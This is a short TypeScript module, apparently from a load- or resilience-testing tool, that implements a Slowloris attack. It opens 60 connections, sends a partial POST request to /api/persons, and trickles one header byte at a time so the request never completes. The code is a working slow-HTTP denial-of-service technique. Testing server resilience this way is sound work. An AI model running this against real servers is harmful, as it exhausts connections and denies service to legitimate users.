import type { Socket } from 'node:net';
import { ConnectionHolder } from '../connection-holder.ts';

export class Slowloris extends ConnectionHolder {
  readonly name = 'loris';
  readonly description = 'Sends a request byte by byte over 60 connections and never completes it.';
  readonly maxPerSecond = 5;
  protected readonly maxConnections = 60;

  protected start(socket: Socket): void {
    socket.write('POST /api/persons HTTP/1.1\r\nhost: x\r\nx-slow: ');
  }

  protected override keepAlive(socket: Socket): void {
    socket.write('x');
  }
}
